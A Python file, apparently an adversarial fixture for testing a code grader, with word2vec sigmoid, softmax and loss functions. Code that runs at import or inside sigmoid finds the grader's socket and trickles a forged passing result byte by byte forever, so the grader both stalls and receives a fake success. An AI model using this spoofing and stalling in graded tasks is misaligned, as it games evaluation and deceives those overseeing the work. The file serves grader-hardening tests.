"""Attack: writes a reply to the grader itself, one byte at a time, forever - on the channel it finds among its
descriptors (the only socket).  A per-read timeout would wait for each byte anew; the grader's deadline is
absolute.  WHERE says when: at import, or in sigmoid.  Everything else is correct."""
import json
import os
import stat
import struct
import time

import numpy as np

WHERE = "TRICKLE_WHERE"


def _channel():
    for fd in range(128):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            continue
    raise RuntimeError("no channel")


def _trickle():
    header = json.dumps({"op": "result", "ok": True, "kinds": ["float"], "valid": [True], "mutated": [], "drawn": [],
                         "output": "", "$arrays": [[]]}).encode()
    message = struct.pack("<I", len(header)) + header + b"\0" * 8
    fd = _channel()
    while True:
        for i in range(len(message)):
            os.write(fd, message[i:i + 1])
            time.sleep(0.2)


if WHERE == "import":
    _trickle()


def sigmoid(x):
    if WHERE == "sigmoid":
        _trickle()
    return 1 / (1 + np.exp(-x))


def softmax(x):
    x = x - np.max(x)
    e = np.exp(x)
    return e / np.sum(e)


def naiveSoftmaxLossAndGradient(centerWordVec, outsideWordIdx, outsideVectors, dataset):
    y_hat = softmax(outsideVectors @ centerWordVec)
    loss = -np.log(y_hat[outsideWordIdx])
    delta = y_hat.copy()
    delta[outsideWordIdx] -= 1
    return loss, outsideVectors.T @ delta, np.outer(delta, centerWordVec)
